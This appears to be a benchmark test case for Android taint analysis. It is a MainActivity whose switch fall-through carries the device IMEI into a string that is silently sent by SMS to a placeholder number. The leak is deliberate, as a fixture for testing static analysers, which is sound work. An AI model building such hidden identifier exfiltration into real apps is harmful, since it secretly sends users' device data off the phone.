// about       A case without `break` goes on to the next one, which adds to the text.
// leak        DEV_IMEI sms
package cn.example.flow;

import android.app.Activity;
import android.content.Context;
import android.os.Bundle;
import android.telephony.SmsManager;
import android.telephony.TelephonyManager;

public class MainActivity extends Activity {
  @Override
  protected void onCreate(Bundle state) {
    super.onCreate(state);
    TelephonyManager phone = (TelephonyManager) getSystemService(Context.TELEPHONY_SERVICE);
    String text = "start ";
    switch (getIntent().getIntExtra("mode", 1)) {
      case 1:
        text = phone.getDeviceId();
        // Falls through.
      case 2:
        // Keeps what case 1 stored.
        text += " two";
        break;
      default:
        text += "other";
    }
    SmsManager.getDefault().sendTextMessage("+15550100", null, text, null, null);
  }
}
